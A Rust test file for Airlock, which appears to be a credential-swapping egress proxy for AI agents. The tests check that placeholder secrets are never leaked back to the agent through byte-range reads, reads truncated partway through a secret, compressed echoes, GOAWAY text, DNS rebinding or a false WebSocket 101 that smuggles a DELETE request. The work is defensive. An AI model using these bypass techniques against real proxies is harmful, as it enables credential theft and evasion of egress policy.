/// gone: a reload that takes the credential off the host's rule, leaving
/// the host reachable, still has its answers scrubbed, also after the
/// daemon restarts.
#[test]
fn a_secret_sent_under_a_rule_since_taken_away_is_scrubbed_when_read_back() {
    let Setup { mut d, up } = setup("");
    let base = format!("https://api.example.test:{}", up.port);
    send_the_credential(&d, &base);
    let path = d.policy_dir.join("web-bot.yaml");
    let policy = std::fs::read_to_string(&path).expect("policy");
    // The agent's environment goes too: a placeholder no rule binds is
    // a policy error.
    let without = policy
        .replace("    credentials:\n      - secret: api-token\n", "")
        .replace("env:\n  API_TOKEN: \"{{ placeholder: api-token }}\"\n", "");
    assert!(!without.contains("api-token"), "{without}");
    std::fs::write(&path, without).expect("edit");
    // The placeholder is refused once no rule binds the secret any more.
    until_in_force(|| {
        let out = send_placeholder(&d, "web-bot", &format!("{base}/hello"));
        (stdout(&out) == "403", redacted(&describe(&out)))
    });

    let python = format!(
        "import requests\nr = requests.get('{base}/log', timeout=10)\nprint(r.status_code, r.text)\n"
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &python]);
    let text = stdout(&out);
    assert_no_secret("the log read back after the reload", &text);
    assert!(text.starts_with("200 "), "{}", redacted(&describe(&out)));
    the_log_read_back(&up, &text);

    // A restart does not forget it: no policy in force binds the host now.
    d.kill9();
    d.spawn();
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &python]);
    let text = stdout(&out);
    assert_no_secret("the log read back after a restart", &text);
    assert!(text.starts_with("200 "), "{}", redacted(&describe(&out)));
    the_log_read_back(&up, &text);
}

/// What the agent got back from the log (`text`) shows the placeholder
/// where the secret was kept, and the upstream's last request read the
/// log asking for an answer the scrubber can read; that request.
fn the_log_read_back(up: &TlsUpstream, text: &str) -> Seen {
    assert!(
        text.contains(&format!("Bearer {PLACEHOLDER}")),
        "{}",
        redacted(text)
    );
    let read = up.seen().pop().expect("the upstream saw the read");
    assert_eq!(read.path, "/log");
    assert_eq!(read.header("accept-encoding"), Some("identity"));
    read
}

/// A daemon and upstream where `web-bot` has sent its credential, which
/// the upstream keeps in its request log: the setup, the upstream's base
/// URL, and where the secret begins in the log.
fn a_secret_kept_in_the_log() -> (Setup, String, usize) {
    let setup = setup("");
    let base = format!("https://api.example.test:{}", setup.up.port);
    send_the_credential(&setup.d, &base);
    let at = setup
        .up
        .log_text()
        .find(SECRET)
        .expect("the upstream kept the secret");
    (setup, base, at)
}

/// A log that honours `Range` could give a kept secret back in pieces
/// shorter than the secret, one answer each, which no scrubber of one
/// answer can match. A request to a host that holds secrets goes without
/// `Range` and `If-Range` and gets the whole answer, scrubbed; a part the
/// upstream sends all the same is a 502.
#[test]
fn a_kept_secret_is_never_read_back_in_byte_ranges() {
    let (Setup { d, up }, base, at) = a_secret_kept_in_the_log();
    // Twelve bytes from the inside of the secret, as they lie in the log.
    let at = at + 4;
    let range = format!("{at}-{}", at + 11);

    let out = d.run_agent_dns(
        "web-bot",
        &[
            "curl",
            "-sS",
            "-r",
            &range,
            "-H",
            "If-Range: \"v1\"",
            "-w",
            "\n%{http_code}",
            &format!("{base}/log"),
        ],
    );
    let text = stdout(&out);
    assert_no_piece_of_secret("a ranged read of the log", &text);
    assert!(text.ends_with("\n200"), "{}", redacted(&describe(&out)));
    let read = the_log_read_back(&up, &text);
    assert_eq!(read.header("range"), None, "Range went upstream");
    assert_eq!(read.header("if-range"), None, "If-Range went upstream");

    // An upstream that sends a part nobody asked for.
    let out = d.run_agent_dns(
        "web-bot",
        &[
            "curl",
            "-sS",
            "-w",
            "\n%{http_code}",
            &format!("{base}/log?part={range}"),
        ],
    );
    let text = stdout(&out);
    assert_no_piece_of_secret("an unasked part of the log", &text);
    let (body, code) = text.rsplit_once('\n').unwrap_or_default();
    assert_eq!(code, "502", "{}", redacted(&describe(&out)));
    let body: serde_json::Value = serde_json::from_str(body).expect("the 502's JSON");
    assert_eq!(body["reason"], "upstream_error", "{body}");
    assert!(
        body["detail"]
            .as_str()
            .is_some_and(|d| d.contains("206 Partial Content")),
        "{body}"
    );
}

/// A log read with a byte limit ends where the agent chooses: inside the
/// secret, it would give all of it but its last bytes, with nothing after
/// to show that they were a secret. Such an end is withheld and the
/// answer ends with an error, over HTTP/2 and HTTP/1.1, with an audit
/// record that says why; an end that cannot be a secret cut short goes
/// as it is.
#[test]
fn a_log_read_up_to_a_byte_inside_a_secret_ends_before_the_secret() {
    let (Setup { d, up: _upstream }, base, at) = a_secret_kept_in_the_log();
    let read = |limit: usize, version: &str| {
        let out = d.run_agent_dns(
            "web-bot",
            &[
                "curl",
                "-sS",
                version,
                "-w",
                "\n%{http_code}",
                &format!("{base}/log?limit={limit}"),
            ],
        );
        let text = stdout(&out);
        assert_no_piece_of_secret("a log read up to a limit", &text);
        (out.status.success(), text)
    };
    for version in ["--http2", "--http1.1"] {
        for limit in [at + SECRET.len() - 1, at + SECRET_PIECE_MIN, at + 4] {
            let (ok, _) = read(limit, version);
            assert!(!ok, "{version}, limit {limit}: the answer ended whole");
        }
        // Three first bytes go, and so does a secret followed by more
        // than a key's bytes: scrubbed.
        let (ok, text) = read(at + 3, version);
        assert!(
            ok && text.ends_with("\n200"),
            "{version}: {}",
            redacted(&text)
        );
        let (ok, text) = read(at + SECRET.len() + 2, version);
        assert!(
            ok && text.ends_with("\n200"),
            "{version}: {}",
            redacted(&text)
        );
        assert!(
            text.contains(&format!("Bearer {PLACEHOLDER}\"")),
            "{version}: {}",
            redacted(&text)
        );
    }
    let limit = format!("/log?limit={}", at + SECRET.len() - 1);
    let rec = d.wait_audit("for the withheld end", |r| r["path"] == limit);
    assert_eq!(rec["action"], "deny", "{rec}");
    assert_eq!(rec["reason"], "answer_not_scrubbable", "{rec}");
    assert_eq!(rec["status"], 200, "{rec}");
    d.wait_for_log("answer ended early", "the warning for the withheld end");
}

/// An HTTP/2 upstream can refuse a request with a GOAWAY whose debug
/// text is its own, and a request log it keeps can put any piece of a
/// secret there. hyper's error quotes that text escaped, so no scrubber
/// cuts a piece in it: the 502 names the GOAWAY's code alone.
#[test]
fn an_upstreams_go_away_text_never_reaches_the_agent() {
    let Setup { d, up } = setup(
        "  - host: goaway.example.test:{port}\n    methods: [GET]\n    credentials:\n      - secret: api-token\n",
    );
    up.go_away_with(format!("kept: Bearer {} and {}", &SECRET[..20], SECRET).as_bytes());
    let out = d.run_agent_dns(
        "web-bot",
        &[
            "sh",
            "-c",
            &format!(
                "curl -sS --http2 -w '\n%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" https://{}:{}/hello",
                harness::upstream::GO_AWAY_HOST,
                up.port
            ),
        ],
    );
    let text = stdout(&out);
    assert_no_piece_of_secret("the answer to a refused request", &text);
    assert!(text.ends_with("\n502"), "{}", redacted(&describe(&out)));
    assert!(
        text.contains("connection error received: detected excessive load generating behavior"),
        "{}",
        redacted(&text)
    );
    assert_no_piece_of_secret("the daemon's log", &d.log_text());
}

/// Clients ask for compressed answers by default, and decode them: a
/// gzipped echo would carry the secret past the scrubber. A request to a
/// host that holds secrets asks it for no compression. An answer
/// compressed all the same is decoded before it is scrubbed, and reaches
/// the agent uncompressed; one in a coding Airlock does not decode is
/// refused.
#[test]
fn a_compressed_echo_never_carries_the_secret_past_the_scrubber() {
    let Setup { d, up } = setup("");
    let url = format!("https://api.example.test:{}/echo", up.port);
    let python = format!(
        "import os, requests\nr = requests.get('{url}', headers={{'Authorization': 'Bearer ' + os.environ['API_TOKEN']}}, timeout=10)\nprint(r.status_code, r.request.headers['Accept-Encoding'], r.text)\n"
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &python]);
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    // requests asked for gzip; the upstream was asked for none.
    assert!(text.starts_with("200 gzip, deflate"), "{text}");
    assert_eq!(
        up.seen()
            .last()
            .and_then(|s| s.header("accept-encoding").map(str::to_owned)),
        Some("identity".to_owned())
    );
    assert!(text.contains(&format!("Bearer {PLACEHOLDER}")), "{text}");
    assert_no_secret("python's decoded answer", &text);

    // An upstream that compresses whatever it was asked. curl is not told
    // to decode: what it prints is what Airlock sent.
    for coding in ["gzip", "deflate", "br", "zstd"] {
        let url = format!(
            "https://api.example.test:{}/echo-coded?as={coding}",
            up.port
        );
        let out = web_bot_sh(
            &d,
            &format!("curl -sS -i -H \"Authorization: Bearer $API_TOKEN\" '{url}'"),
        );
        let text = stdout(&out);
        assert!(
            out.status.success(),
            "{coding}: {}",
            redacted(&describe(&out))
        );
        assert_no_secret(&format!("the {coding} answer, decoded"), &text);
        assert!(
            text.lines().next().is_some_and(|l| l.contains(" 200")),
            "{coding}: {}",
            redacted(&text)
        );
        let (head, body) = text.split_once("\r\n\r\n").expect("a head and a body");
        let head = head.to_ascii_lowercase();
        assert!(
            !head.contains("content-encoding"),
            "{coding}: {}",
            redacted(&head)
        );
        assert!(
            head.contains("etag: w/\"echo-1\""),
            "{coding}: {}",
            redacted(&head)
        );
        let echoed: serde_json::Value = serde_json::from_str(body).unwrap_or_else(|e| {
            panic!(
                "{coding}: the body is not the decoded JSON ({e}): {}",
                redacted(body)
            )
        });
        let authorization = echoed["headers"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|pair| pair[0] == "authorization")
            .map(|pair| pair[1].clone());
        assert_eq!(
            authorization,
            Some(format!("Bearer {PLACEHOLDER}").into()),
            "{coding}: {}",
            redacted(body)
        );
        assert_eq!(
            up.seen()
                .last()
                .and_then(|s| s.header("accept-encoding").map(str::to_owned)),
            Some("identity".to_owned()),
            "{coding}"
        );
    }

    // A coding Airlock does not decode: 502, no body.
    let lzw_url = format!(
        "https://api.example.test:{}/echo-coded?as=compress",
        up.port
    );
    let out = web_bot_sh(
        &d,
        &format!("curl -sS --compressed -i -H \"Authorization: Bearer $API_TOKEN\" '{lzw_url}'"),
    );
    let text = stdout(&out);
    assert!(
        text.lines().next().is_some_and(|l| l.contains(" 502")),
        "{}",
        describe(&out)
    );
    assert!(text.contains("\"reason\":\"upstream_error\""), "{text}");
    assert!(text.contains("content-encoding: compress"), "{text}");
    assert_no_secret("the refused answer", &text);
    assert_eq!(
        up.seen().last().map(|s| s.path.clone()),
        Some("/echo-coded?as=compress".to_owned())
    );
    d.wait_audit("for the refused LZW answer", |r| {
        r["path"] == "/echo-coded?as=compress" && r["status"] == 502 && r["action"] == "error"
    });
    d.wait_audit("for a decoded answer", |r| {
        r["path"] == "/echo-coded?as=zstd" && r["status"] == 200 && r["action"] == "allow"
    });
    assert_no_secret("daemon log", &d.log_text());
}

/// A `passthrough` host is tunnelled as it is: the agent sees the
/// upstream's own certificate and the upstream sees the agent's bytes,
/// placeholders included (no credential is ever swapped into a tunnel).
/// The tunnel goes to the SNI's host as the daemon resolves it, whatever
/// address the agent dialled.
#[test]
fn passthrough_hosts_are_tunnelled_untouched_to_the_name_in_the_sni() {
    let Setup { d, up } = setup(
        "passthrough:\n  - \"pinned.example.test:{port}\"\n  - \"pinned-443.example.test\"\n",
    );
    let pem = std::fs::read_to_string(&up.ca_pem).expect("upstream CA");
    // Trusting only the upstream's CA: Airlock's certificate would fail.
    let ca = harness::script(&d, "upstream-ca.pem", &pem);
    let url = format!("https://pinned.example.test:{}/echo", up.port);
    let runs = [
        ("dialled by name", String::new()),
        (
            "dialled at another address",
            format!(
                "--connect-to pinned.example.test:{p}:127.0.0.9:{p}",
                p = up.port
            ),
        ),
    ];
    for (how, connect_to) in runs {
        let before = up.seen().len();
        let out = web_bot_sh(
            &d,
            &format!(
                "curl -sS --fail-with-body --cacert {ca} {connect_to} -H \"Authorization: Bearer $API_TOKEN\" {url}"
            ),
        );
        assert!(out.status.success(), "{how}: {}", describe(&out));
        let seen = up.seen();
        assert_eq!(seen.len(), before + 1, "{how}");
        assert_eq!(
            seen[before].header("authorization"),
            Some(format!("Bearer {PLACEHOLDER}").as_str()),
            "{how}: a credential was swapped into a tunnel"
        );
        assert_no_secret(how, &stdout(&out));
    }
    let rec = d.wait_audit("for the tunnel", |r| {
        r["host"] == "pinned.example.test" && r["proto"] == "tls"
    });
    assert_eq!(rec["action"], "allow");
    assert_eq!(
        rec["rule"],
        format!("passthrough pinned.example.test:{}", up.port)
    );

    // An entry without a port passes the name through on 443 alone: the
    // same server on another port gets no tunnel, and the refusal says
    // which entry would make one.
    let out = web_bot_sh(
        &d,
        &format!(
            "curl -sS --cacert {ca} --connect-to pinned-443.example.test:{p}:127.0.0.1:{p} https://pinned-443.example.test:{p}/echo",
            p = up.port
        ),
    );
    assert!(!out.status.success(), "{}", describe(&out));
    let rec = d.wait_audit("for the refused port", |r| {
        r["host"] == "pinned-443.example.test"
    });
    assert_eq!(
        (&rec["action"], &rec["reason"]),
        (&"deny".into(), &"passthrough_port_not_listed".into()),
        "{rec}"
    );
    let fix = format!("\"pinned-443.example.test:{}\" under passthrough", up.port);
    assert!(
        d.log_text().contains(&fix),
        "the daemon log does not name the entry that would tunnel the port ({fix}):\n{}",
        d.log_text()
    );

    // A name the policy does not pass through, with the same trust, gets
    // Airlock's certificate (intercepted), which the upstream's CA alone
    // does not verify: no tunnel is made for it.
    let out = web_bot_sh(
        &d,
        &format!(
            "curl -sS --cacert {ca} https://api.example.test:{}/hello",
            up.port
        ),
    );
    assert!(!out.status.success(), "{}", describe(&out));
}

/// A name that DNS points at this host (DNS rebinding: whoever holds a
/// name a wildcard rule allows can point it anywhere) leads the daemon
/// nowhere: not by interception, nor by a tunnel, nor by a `tcp:` rule.
/// The daemon connects as root from outside the agents' cgroups, so it
/// would reach this host's loopback services and the cloud metadata
/// service for the agent. The same names mapped under `resolve:` (the
/// operator's word) still reach the same servers, which shows they were
/// reachable.
#[test]
fn a_name_dns_points_at_this_host_leads_the_daemon_nowhere() {
    let dir = tempfile::tempdir().expect("upstream dir");
    let up = TlsUpstream::start(
        dir.path(),
        &[
            "rebind.example.test",
            "rebind-pt.example.test",
            "mapped.example.test",
            "mapped-pt.example.test",
        ],
    );
    let ca = dir.keep().join("upstream-ca.pem");
    let raw = harness::servers::TagServer::start("127.0.0.1:0", "raw tcp server");
    let raw_mapped = harness::servers::TagServer::start("127.0.0.1:0", "mapped tcp server");
    let (p, t, tm) = (up.port, raw.addr.port(), raw_mapped.addr.port());
    let dns = harness::servers::FakeDns::start(
        "127.0.0.1:0",
        &[
            ("rebind.example.test", [127, 0, 0, 1]),
            ("rebind-pt.example.test", [127, 0, 0, 1]),
            ("rebind-tcp.example.test", [127, 0, 0, 1]),
        ],
    );
    let policy = format!(
        "agent: rebind-bot\nrules:\n  - host: \"*.example.test:{p}\"\n    methods: [GET]\npassthrough:\n  - \"rebind-pt.example.test:{p}\"\n  - \"mapped-pt.example.test:{p}\"\ntcp:\n  - \"rebind-tcp.example.test:{t}\"\n  - \"mapped-tcp.example.test:{tm}\"\n"
    );
    let d = Daemon::start(DaemonOptions {
        policies: vec![("rebind-bot.yaml".into(), policy)],
        extra_config: format!(
            "dns_upstream: [\"{}\"]\nresolve:\n  mapped.example.test: 127.0.0.1\n  mapped-pt.example.test: 127.0.0.1\n  mapped-tcp.example.test: 127.0.0.1\nupstream_ca: [{}]\n",
            dns.addr,
            ca.display()
        ),
    });
    let upstream_ca = harness::script(
        &d,
        "upstream-ca.pem",
        &std::fs::read_to_string(&up.ca_pem).expect("upstream CA"),
    );
    let curl = |name: &str, trust: &str| {
        // The agent dials the upstream's address itself: what the daemon
        // does with the name is what is tested.
        let script = format!(
            "curl -sS -w '\\n%{{http_code}}\\n' {trust} --connect-to {name}:{p}:127.0.0.1:{p} https://{name}:{p}/hello"
        );
        let out = d.run_agent("rebind-bot", &["sh", "-c", &script]);
        (out.status.success(), stdout(&out), describe(&out))
    };

    // Intercepted: a 502 that names the refused address and the remedy.
    let (_, text, _) = curl("rebind.example.test", "");
    let mut lines = text.lines();
    let body: serde_json::Value = serde_json::from_str(lines.next().unwrap_or_default())
        .unwrap_or_else(|e| panic!("not a JSON answer ({e}): {text}"));
    assert_eq!(lines.next(), Some("502"), "{text}");
    assert_eq!(body["reason"], "upstream_error", "{text}");
    let detail = body["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("resolves only to 127.0.0.1") && detail.contains("resolve:"),
        "{text}"
    );
    assert!(
        up.seen().is_empty(),
        "the upstream was reached: {:?}",
        up.log_text()
    );
    let (ok, text, how) = curl("mapped.example.test", "");
    assert!(ok && text.starts_with("hello from upstream"), "{how}");
    assert_eq!(up.seen().len(), 1);

    // Passed through: no tunnel, though the agent trusts the upstream's
    // own certificate and would finish a handshake with it.
    let trust = format!("--cacert {upstream_ca}");
    let (ok, _, how) = curl("rebind-pt.example.test", &trust);
    assert!(!ok, "a tunnel was made: {how}");
    assert_eq!(
        up.seen().len(),
        1,
        "the upstream was reached through a tunnel"
    );
    let rec = d.wait_audit("for the refused tunnel", |r| {
        r["host"] == "rebind-pt.example.test"
    });
    assert_eq!(rec["action"], "error");
    assert_eq!(rec["reason"], "resolve_failed");
    let (ok, text, how) = curl("mapped-pt.example.test", &trust);
    assert!(ok && text.starts_with("hello from upstream"), "{how}");
    assert_eq!(up.seen().len(), 2);

    // Raw TCP: the agent dials the address DNS gave, which no longer
    // matches the rule's name. (It speaks first, so that a connection no
    // rule takes is closed at once rather than after the proxy's wait
    // for a client's first bytes.)
    let connect = |port: u16| {
        let script = format!(
            "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=5)\ns.settimeout(5)\ntry:\n    s.sendall(b'hello\\n')\n    print((s.recv(100).decode().splitlines() or ['closed'])[0])\nexcept OSError as e:\n    print('error', e)\n"
        );
        let out = d.run_agent("rebind-bot", &[PY, "-c", &script]);
        (stdout(&out).trim().to_owned(), describe(&out))
    };
    let (said, how) = connect(t);
    // Closed, with what the agent sent unread: a reset.
    assert!(
        said == "closed" || said.contains("Connection reset"),
        "{how}"
    );
    assert_eq!(raw.accepted(), 0, "the raw TCP server was reached");
    let (said, how) = connect(tm);
    assert_eq!(said, "mapped tcp server", "{how}");
    assert_eq!(raw_mapped.accepted(), 1);
}

/// An upstream whose response head is larger than Airlock reads (64 KiB)
/// gets the agent a 502 that says so, not a hang or a cut connection, and
/// the next request on the daemon is served.
#[test]
fn an_oversized_upstream_head_is_a_502_with_a_reason() {
    let Setup { d, up } = setup("");
    let base = format!("https://api.example.test:{}", up.port);
    let out = web_bot_sh(
        &d,
        &format!(
            "curl -sS --http1.1 -w '\\n%{{http_code}}\\n' {base}/bighead; curl -sS --http1.1 {base}/hello"
        ),
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    let mut lines = text.lines();
    let body: serde_json::Value = serde_json::from_str(lines.next().unwrap_or_default())
        .unwrap_or_else(|e| panic!("not a JSON answer ({e}): {}", describe(&out)));
    assert_eq!(body["reason"], "upstream_error", "{text}");
    // Whether hyper's buffer limit or Airlock's own check caught it.
    let detail = body["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("larger than 64 KiB") || detail.contains("too large"),
        "{text}"
    );
    assert_eq!(lines.next(), Some("502"), "{text}");
    assert_eq!(lines.next(), Some("hello from upstream"), "{text}");
    let rec = d.wait_audit("for the 502", |r| r["path"] == "/bighead");
    assert_eq!(rec["action"], "error");
    assert_eq!(rec["status"], 502);
}

const K_SECRET: &str = "kv-0123456789-api-key";
const K_PH: &str = "airlock-ph-k-key";

/// A `header` secret bound to one header (`--header`) is swapped there,
/// and refused in any other header: an API key cannot be moved into a
/// field the API keeps.
#[test]
fn a_header_secret_bound_to_its_header_goes_nowhere_else() {
    let Setup { d, up } = setup(ENC_RULE);
    d.secret_with_value(
        &[
            "set",
            "k-key",
            "--kind",
            "header",
            "--placeholder",
            K_PH,
            "--header",
            "X-Api-Key",
        ],
        K_SECRET,
    );
    // Without --header, the secret goes in any header, and `set` says so.
    let out = d.secret_with_value_noted(&["set", "k-any", "--kind", "header"], K_SECRET);
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("note: k-any is swapped into any request header; to refuse it in all but one, set it again with --header NAME"),
        "{}",
        describe(&out)
    );
    let list = std::process::Command::new(harness::AIRLOCK)
        .args(["secret", "list", "--config"])
        .arg(&d.config)
        .output()
        .expect("secret list");
    assert!(
        stdout(&list).contains("header (x-api-key)"),
        "{}",
        describe(&list)
    );
    let url = format!("https://svc.example.test:{}/echo", up.port);
    let curl = |header: &str| {
        web_bot_sh(
            &d,
            &format!("curl -sS -w ' %{{http_code}}' -H '{header}: {K_PH}' {url}"),
        )
    };
    let before = up.seen().len();
    let out = curl("x-api-key");
    assert!(stdout(&out).ends_with(" 200"), "{}", describe(&out));
    assert_eq!(
        up.seen()
            .last()
            .and_then(|s| s.header("x-api-key").map(str::to_owned)),
        Some(K_SECRET.to_owned())
    );
    assert!(!stdout(&out).contains(K_SECRET), "{}", describe(&out));

    let out = curl("x-note");
    let text = stdout(&out);
    assert!(text.ends_with(" 403"), "{}", describe(&out));
    assert!(text.contains("placeholder_misplaced"), "{text}");
    assert!(text.contains("swapped only in header x-api-key"), "{text}");
    assert_eq!(
        up.seen().len(),
        before + 1,
        "the refused request went upstream"
    );
}

/// `secret rotate` tells the running daemon, so the very next request
/// carries the new value: no restart, no window with the old one.
#[test]
fn a_rotated_secret_goes_upstream_from_the_next_request() {
    const ROTATED: &str = "r0tated-Value-fedcba9876543210";
    let Setup { d, up } = setup("");
    let url = format!("https://api.example.test:{}/hello", up.port);
    let curl = format!("curl -sS -H \"Authorization: Bearer $API_TOKEN\" {url}");
    let sent = |up: &TlsUpstream| {
        up.seen()
            .last()
            .and_then(|s| s.header("authorization").map(str::to_owned))
    };
    let out = d.run_agent_dns("web-bot", &["sh", "-c", &curl]);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(sent(&up), Some(format!("Bearer {SECRET}")));

    d.secret_rotate("api-token", ROTATED);
    let out = d.run_agent_dns("web-bot", &["sh", "-c", &curl]);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(sent(&up), Some(format!("Bearer {ROTATED}")));
    assert!(!stdout(&out).contains(ROTATED), "{}", describe(&out));
}

/// A stream opened before a secret changed still scrubs the new value:
/// an agent that opens a live request log first, then has the rotated
/// key sent, must not read the key back from the log.
#[test]
fn a_secret_rotated_while_a_stream_is_open_is_scrubbed_from_it() {
    const ROTATED: &str = "r0tated-While-Streaming-24680";
    let Setup { d, up } = setup("");
    let p = up.port;
    let py = format!(
        r#"
import os, threading, time, requests
tok = os.environ['API_TOKEN']
tail = requests.get('https://api.example.test:{p}/tail', stream=True, timeout=20)
lines = tail.iter_lines(decode_unicode=True)
print(next(lines), flush=True)
events = []
def read():
    for line in lines:
        if line.startswith('data:'):
            events.append(line)
threading.Thread(target=read, daemon=True).start()
for _ in range(40):
    requests.get('https://api.example.test:{p}/hello', headers={{'Authorization': 'Bearer ' + tok}}, timeout=10)
    time.sleep(0.1)
time.sleep(0.5)
print('\n'.join(events))
"#
    );
    let out = std::thread::scope(|scope| {
        let agent = scope.spawn(|| d.run_agent_dns("web-bot", &[PY, "-c", &py]));
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        while !up.seen().iter().any(|r| r.path == "/tail") {
            assert!(
                std::time::Instant::now() < deadline,
                "the stream never opened"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        std::thread::sleep(Duration::from_millis(800));
        d.secret_rotate("api-token", ROTATED);
        agent.join().expect("the agent's thread")
    });
    let text = describe(&out);
    assert!(out.status.success(), "{text}");
    let printed = stdout(&out);
    // The upstream got the rotated value on some of the requests the
    // stream then showed...
    let rotated = up
        .seen()
        .iter()
        .filter(|r| r.header("authorization") == Some(&format!("Bearer {ROTATED}")))
        .count();
    assert!(rotated >= 5, "the rotation came too late to tell: {text}");
    // ...and the agent read every one of them with the placeholder.
    assert!(!printed.contains(ROTATED), "{text}");
    assert!(!printed.contains(SECRET), "{text}");
    let shown = printed.matches(&format!("Bearer {PLACEHOLDER}")).count();
    assert!(shown >= 30, "the stream showed the requests: {text}");
}

#[test]
fn an_sse_event_arrives_before_the_stream_ends_and_websockets_echo() {
    let Setup { d, up } = setup("");
    let p = up.port;
    let node = format!(
        r#"
const t0 = Date.now();
fetch('https://api.example.test:{p}/sse').then(async r => {{
  const reader = r.body.getReader();
  let first = null, text = '';
  for (;;) {{
    const {{done, value}} = await reader.read();
    if (done) break;
    if (first === null) first = Date.now() - t0;
    text += Buffer.from(value).toString();
  }}
  console.log(first, Date.now() - t0, text.includes('first') && text.includes('second'));
}}).catch(e => {{ console.log('error', e); process.exit(1) }});
"#
    );
    let out = d.run_agent_dns("web-bot", &["node", "-e", &node]);
    assert!(out.status.success(), "{}", describe(&out));
    let text = stdout(&out);
    let fields: Vec<&str> = text.split_whitespace().collect();
    let first: u64 = fields[0].parse().expect("first");
    let end: u64 = fields[1].parse().expect("end");
    assert_eq!(fields[2], "true", "both events arrived: {text}");
    assert!(end >= 1400, "the stream should last ~1.5 s: {text}");
    assert!(
        first + 1000 <= end,
        "the first event waited for the end of the stream: {text}"
    );

    // A WebSocket upgrade, echoed by the upstream after the 101.
    let py = format!(
        r#"
{open}print(head.split(b'\r\n')[0].decode())
frame = bytes([0x81, 0x85, 1, 2, 3, 4]) + bytes(b ^ k for b, k in zip(b'hello', [1, 2, 3, 4, 1]))
s.sendall(frame)
want = bytes([0x81, 0x05]) + b'hello'
got = b''
while len(got) < len(want):
    more = s.recv(64)
    if not more:
        sys.exit('closed after ' + repr(got))
    got += more
print('echo', got == want)
"#,
        open = ws_open_py(p)
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        ["HTTP/1.1 101 Switching Protocols", "echo True"],
        "{}",
        describe(&out)
    );
}

/// A 101 is taken for a switch only when it answers the handshake: a
/// WebSocket's must carry the accept value for the agent's key. An
/// upstream that answers with any status it is asked for, behind a front
/// end that then tunnels, would otherwise carry the agent's next bytes as
/// requests no policy decided: here a DELETE to a path a deny rule
/// refuses.
#[test]
fn a_101_that_does_not_answer_the_websocket_handshake_switches_nothing() {
    let Setup { d, up } = setup("");
    let p = up.port;
    let py = format!(
        r#"
import json, os, socket, ssl
ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
s = ctx.wrap_socket(socket.create_connection(('api.example.test', {p}), timeout=10), server_hostname='api.example.test')
def answer():
    data = b''
    while b'\r\n\r\n' not in data:
        more = s.recv(1)
        if not more:
            return 'closed', {{}}
        data += more
    lines = data.decode().split('\r\n')
    length = next((int(l.split(':', 1)[1]) for l in lines if l.lower().startswith('content-length:')), 0)
    body = b''
    while len(body) < length:
        more = s.recv(length - len(body))
        if not more:
            break
        body += more
    try:
        body = json.loads(body)
    except ValueError:
        body = {{'text': body.decode(errors='replace')}}
    return lines[0].split(' ')[1], body
s.sendall(b'GET /ws?answer=bare HTTP/1.1\r\nHost: api.example.test:{p}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n')
status, body = answer()
print('handshake', status, body.get('reason'))
print('detail', body.get('detail'))
try:
    s.sendall(b'DELETE /admin/users HTTP/1.1\r\nHost: api.example.test:{p}\r\n\r\n')
    status, body = answer()
    print('next', status, body.get('reason') or body.get('text'))
except OSError as e:
    print('next closed', type(e).__name__)
"#
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines.first().copied(),
        Some("handshake 502 upstream_error"),
        "{}",
        describe(&out)
    );
    assert!(
        lines
            .get(1)
            .is_some_and(|l| l.contains("Sec-WebSocket-Accept")),
        "{}",
        describe(&out)
    );
    // What follows is a request of its own, decided as any other.
    assert!(
        matches!(
            lines.get(2).copied(),
            Some(
                "next 403 deny_rule"
                    | "next closed BrokenPipeError"
                    | "next closed ConnectionResetError"
            )
        ),
        "{}",
        describe(&out)
    );
    let seen = up.seen();
    assert!(
        seen.iter().any(|s| s.path == "/ws?answer=bare"),
        "the handshake never reached the upstream: {seen:?}"
    );
    assert!(
        !seen.iter().any(|s| s.path.starts_with("/admin")),
        "a request went through the false switch: {seen:?}"
    );
    let rec = d.wait_audit("for the false switch", |r| r["path"] == "/ws?answer=bare");
    assert_eq!(
        (&rec["action"], &rec["status"]),
        (&"error".into(), &502.into()),
        "{rec}"
    );
}

/// Python that opens a WebSocket to the upstream's /ws as `s` and reads
/// the answer's head into `head`.
fn ws_open_py(p: u16) -> String {
    ws_open_py_sending(p, "")
}

/// [`ws_open_py`], the handshake carrying the agent's API token.
fn ws_open_py_with_token(p: u16) -> String {
    ws_open_py_sending(
        p,
        "Authorization: Bearer ' + os.environ['API_TOKEN'].encode() + b'\\r\\n",
    )
}

/// [`ws_open_py`], with `headers` (Python bytes-literal text, each line
/// ending in an escaped CRLF) in the handshake.
fn ws_open_py_sending(p: u16, headers: &str) -> String {
    format!(
        r#"import socket, ssl, os, sys
ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
s = ctx.wrap_socket(socket.create_connection(('api.example.test', {p}), timeout=10), server_hostname='api.example.test')
s.sendall(b'GET /ws HTTP/1.1\r\nHost: api.example.test:{p}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n{headers}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n')
head = b''
while b'\r\n\r\n' not in head:
    more = s.recv(1)
    if not more:
        sys.exit('closed before the head ended: ' + repr(head))
    head += more
"#
    )
}

/// A WebSocket whose handshake carried a credential: the upstream's
/// messages are scrubbed as bodies are, even with the secret split over two
/// fragments, and large messages pass whole. Compression is not offered
